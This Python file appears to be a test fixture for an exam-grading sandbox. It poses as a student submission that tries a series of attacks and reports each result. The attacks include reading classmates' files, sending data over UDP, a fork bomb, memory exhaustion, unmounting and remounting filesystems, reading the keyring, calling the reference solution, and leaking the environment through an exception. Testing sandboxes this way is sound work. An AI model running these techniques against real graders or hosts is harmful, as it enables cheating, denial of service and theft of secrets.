# The Python port of exam_attack.hpp: a student's MyAlgorithm.py that attacks its exam from inside
# execute(), once, and says on stderr what each try gave ("exam: <try>: done" / "exam: <try>:
# refused (<why>)"); then it stays still. tests/attacks/test_exam.cpp writes one submission
# folder per attack, this file as its MyAlgorithm.py after a first line naming the attack
# (AULA_EXAM_ATTACK = "read"):
# The test's values are globals the submission sets before this file (a graded run's environment
# is the sandbox's, not the test's), else the environment's (a run without the sandbox):
# AULA_EXAM_READ, AULA_EXAM_PORT, AULA_EXAM_WRITE.
# - "read": open each file named in AULA_EXAM_READ (a classmate's MyAlgorithm.cpp, the out
#   folder's manifest, a teacher's world, /home);
# - "udp": a datagram to 127.0.0.1 and to LCM's group on AULA_EXAM_PORT, where a listener
#   outside the run waits;
# - "memory": 3 GB in one bytearray;
# - "fork": os.fork() until refused, and keep trying;
# - "privilege": unmount /proc, remount / read-write, a user namespace of its own (through ctypes),
#   write a file in $AULA_EXAM_WRITE;
# - "reference": load the reference's plugin through ctypes, then find the component's
#   reference (makeReferenceAlgorithm) as a C++ plugin would through the dynamic linker, and call it;
# - "reexec": start the component again in this process, with --Vacuum.Algorithm=reference;
# - "_exit": os._exit(0) inside execute();
# - "flood": 4 MB to stdout in each execute(), without end;
# - "keyring", "io_uring", "shared-memory", "fork-memory", "world-in-exception": as in exam_attack.hpp (through
#   ctypes and Python's mmap).
import ctypes
import mmap
import os
import select
import socket
import sys
import time

AULA_EXAM_ATTACK = globals().get("AULA_EXAM_ATTACK", "none")
MNT_DETACH, MS_REMOUNT, MS_BIND, CLONE_NEWUSER = 2, 32, 4096, 0x10000000
libc = ctypes.CDLL(None, use_errno=True)


def setting(name, default):
    return globals().get(name) or os.environ.get(name, default)


def say(what, done, error=0):
    print(f"exam: {what}: done" if done else f"exam: {what}: refused ({os.strerror(error)})", file=sys.stderr,
          flush=True)


def read_files():
    for path in filter(None, setting("AULA_EXAM_READ", "").split(":")):
        try:
            os.close(os.open(path, os.O_RDONLY))  # a folder (/home) opens too, as in C++
            say("read " + path, True)
        except OSError as e:
            say("read " + path, False, e.errno)


def send_datagrams():
    port = int(setting("AULA_EXAM_PORT", "9"))
    for address in ("127.0.0.1", "239.255.76.67"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.sendto(b"a classmate's MyAlgorithm.cpp", (address, port))
            say("send to " + address, True)
        except OSError as e:
            say("send to " + address, False, e.errno)


def use_memory():
    block = bytearray(3 << 30)
    say("use 3 GB", block[-1] == 0)


def fork_forever():
    while True:
        try:
            if os.fork() == 0:
                while True:
                    time.sleep(1000)
        except OSError:
            pass


def try_privileges():
    for what, call in (("unmount /proc", lambda: libc.umount2(b"/proc", MNT_DETACH)),
                       ("remount / read-write", lambda: libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None)),
                       ("make a user namespace", lambda: libc.unshare(CLONE_NEWUSER))):
        say(what, call() == 0, ctypes.get_errno())
    target = setting("AULA_EXAM_WRITE", "/nonexistent")
    try:
        open(target, "w").close()
        say("write " + target, True)
    except OSError as e:
        say("write " + target, False, e.errno)


def find_reference():
    # The reference's own plugin, beside the component.
    bin_dir = os.path.dirname(os.readlink("/proc/self/exe"))
    plugin = os.path.join(bin_dir, "..", "lib", "aula", "references", "libaula_vacuum_reference.so")
    try:
        ctypes.CDLL(plugin).aula_vacuum_algorithm_v1
        say("load the reference's plugin", True)
    except (OSError, AttributeError):
        say("load the reference's plugin", False, 2)
    # makeReferenceAlgorithm(uint64_t) as the linker names it, looked up in every loaded object,
    # and called as C++ calls it (its std::unique_ptr returned through a hidden first argument).
    try:
        make = getattr(libc, "_ZN4aula6vacuum22makeReferenceAlgorithmEm")
        say("find makeReferenceAlgorithm", True)
        made = ctypes.c_void_p()
        make.restype = None
        make(ctypes.byref(made), ctypes.c_uint64(1))
        say("call makeReferenceAlgorithm", bool(made.value))
    except AttributeError:
        say("find makeReferenceAlgorithm", False, 2)  # ENOENT


def reexec_as_reference():
    with open("/proc/self/cmdline", "rb") as f:
        args = [a.decode() for a in f.read().split(b"\0") if a]
    args = ["--Vacuum.Algorithm=reference" if a.startswith("--Vacuum.Algorithm=") else a for a in args]
    try:
        os.execv("/proc/self/exe", args)
    except OSError as e:
        say("re-execute the component", False, e.errno)


def flood():
    line = "x" * 1023 + "\n"
    for _ in range(4 * 1024):
        sys.stdout.write(line)
    sys.stdout.flush()


SYS_KEYCTL, SYS_IO_URING_SETUP = 250, 425  # x86-64


def read_keyring():
    libc.syscall.restype = ctypes.c_long
    key = libc.syscall(SYS_KEYCTL, 10, -3, b"user", b"aula-exam-secret", 0)  # KEYCTL_SEARCH, the session's
    if key < 0:
        return say("read the session keyring", False, ctypes.get_errno())
    payload = ctypes.create_string_buffer(256)
    read = libc.syscall(SYS_KEYCTL, 11, ctypes.c_long(key), payload, 255)  # KEYCTL_READ
    say("read the session keyring", read > 0, ctypes.get_errno())
    if read > 0:
        print("exam: the key holds " + payload.value.decode(), file=sys.stderr, flush=True)


def set_up_io_uring():
    fd = libc.syscall(SYS_IO_URING_SETUP, 8, ctypes.create_string_buffer(120))
    say("set up an io_uring", fd >= 0, ctypes.get_errno())
    if fd >= 0:
        os.close(fd)


def use_shared_memory():
    try:
        block = mmap.mmap(-1, 3 << 30)  # shared and anonymous
        for at in range(0, len(block), 4096):
            block[at] = 1
        say("map 3 GB of shared memory", True)
        block.close()
    except OSError as e:
        say("map 3 GB of shared memory", False, e.errno)
    written = 0
    try:
        with open("/dev/shm/aula-exam", "wb") as f:
            chunk = b"x" * (1 << 20)
            while written < 256:
                f.write(chunk)
                f.flush()
                written += 1
        say("write 256 MB in /dev/shm", True)
    except OSError as e:
        say("write 256 MB in /dev/shm", False, e.errno)


def fork_memory():
    read_end, write_end = os.pipe()
    for _ in range(3):
        if os.fork() == 0:
            block = b"\x01" * (800 << 20)  # written, so resident
            os.write(write_end, b"y" if block else b"n")
            while True:
                time.sleep(1000)
    return read_end


def fork_memory_ready(read_end, count):
    """Waits up to 0.1 s for the children's bytes: the count of those that came."""
    while count < 3 and select.select([read_end], [], [], 0.1)[0]:
        count += os.read(read_end, 1) == b"y"
    return count


def throw_the_world():
    # The world's path is in the component's command line: its own, or its parent's when the
    # algorithm runs in a process of its own.
    args = []
    for process in ("self", str(os.getppid())):
        with open(f"/proc/{process}/cmdline", "rb") as f:
            args += [a.decode() for a in f.read().split(b"\0") if a]
    world = next(a[len("--Vacuum.World="):] for a in args if a.startswith("--Vacuum.World="))
    try:  # unreadable from the algorithm's own process in a graded run: the message has the path alone
        with open(world) as f:
            text = f.read(2048)
    except OSError:
        text = ""
    environment = " ".join(f"{k}={v}" for k, v in os.environ.items())
    raise RuntimeError(f"the world {world} reads: {text} and the environment: {environment}")


ATTACKS = {"read": read_files, "udp": send_datagrams, "memory": use_memory, "fork": fork_forever,
           "privilege": try_privileges, "reference": find_reference, "reexec": reexec_as_reference,
           "_exit": lambda: os._exit(0), "keyring": read_keyring, "io_uring": set_up_io_uring,
           "shared-memory": use_shared_memory, "world-in-exception": throw_the_world}


class MyAlgorithm:
    def __init__(self, seed):
        self.done = False
        self.ready, self.ready_count = None, 0  # fork-memory: the children's "written" line

    def execute(self, api):
        api.motors.sendV(0.0)
        api.motors.sendW(0.0)
        if AULA_EXAM_ATTACK == "flood":
            flood()
        if self.ready is not None:
            self.ready_count = fork_memory_ready(self.ready, self.ready_count)
            if self.ready_count == 3:
                say("three children of 800 MB each", True)
                self.ready = None
        if self.done:
            return
        self.done = True
        if AULA_EXAM_ATTACK == "fork-memory":
            self.ready = fork_memory()
        ATTACKS.get(AULA_EXAM_ATTACK, lambda: None)()
